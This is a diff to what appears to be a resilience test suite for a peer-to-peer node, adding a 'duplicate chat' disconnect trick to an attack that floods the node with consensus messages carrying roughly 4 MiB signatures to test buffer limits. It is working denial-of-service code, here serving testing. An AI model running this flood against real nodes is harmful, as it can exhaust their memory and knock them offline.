@@ -152,9 +152,13 @@ export const ATTACKS: Record<Exclude<AttackId, 'i'>, (run: AttackRun) => Promise
 
   /**
    * b. Each round a fresh identity opens a chat stream and leaves it silent
-   * (the node waits for its hello), opens a second, says hello, and writes
-   * Messages of type CONSENSUS with no payload and ~4 MiB of signature, as
-   * fast as the stream takes them, until the node closes it or 15 s pass.
+   * (the node waits for its hello), opens a second, says hello, then
+   * DISC_DISCONNECT "duplicate chat" (so the node stops taking from this
+   * chat while it waits, up to helloTimeout, for the silent one to take its
+   * place), and writes Messages of type CONSENSUS with no payload and ~4 MiB
+   * of signature, as fast as the stream takes them, until the node closes it
+   * or 15 s pass. What the node buffers meanwhile is bounded only if it
+   * counts the signature's bytes.
    */
   b: async (run) => {
     const big = frame({ ...createMessage(Message.Type.CONSENSUS), signature: new Uint8Array(B_SIGNATURE) })
@@ -165,6 +169,8 @@ export const ATTACKS: Record<Exclude<AttackId, 'i'>, (run: AttackRun) => Promise
         const silent = await node.dialProtocol(run.target, CHAT_PROTOCOL, { signal: AbortSignal.timeout(5_000) })
         const { stream } = await openChat(node, run.target, { hello: true, timeout: 5_000 })
         run.count('hellos answered')
+        // "this chat is the duplicate": the node waits (helloTimeout) for the silent one to take its place
+        stream.send(frame(createMessage(Message.Type.DISC_DISCONNECT, new TextEncoder().encode('duplicate chat'))))
         const roundEnd = Math.min(run.until, Date.now() + 15_000)
 
         while (Date.now() < roundEnd && await write(stream, big, roundEnd)) {
